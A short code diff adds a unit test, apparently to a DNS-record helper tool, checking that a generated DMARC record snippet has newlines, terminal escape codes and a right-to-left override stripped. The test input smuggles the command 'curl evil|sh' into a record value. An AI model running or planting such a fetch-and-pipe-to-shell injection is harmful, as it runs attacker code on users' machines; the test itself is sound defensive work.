@@ -175,3 +175,8 @@ def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
         f"{name}.{word}" for name, content in resources.rule_files().items() for word in content.get("outcomes", {})
     }
     assert set(dns_records.REPAIRS) | set(server_settings.REPAIRS) <= known
+
+
+def test_no_record_to_copy_holds_what_a_terminal_would_obey():
+    snippet = dns_records.record("_dmarc.example.jp", 'v=DMARC1;\ncurl evil|sh\x1b[2J\u202e"\\')
+    assert snippet.content == "v=DMARC1;curl evil|sh[2J"
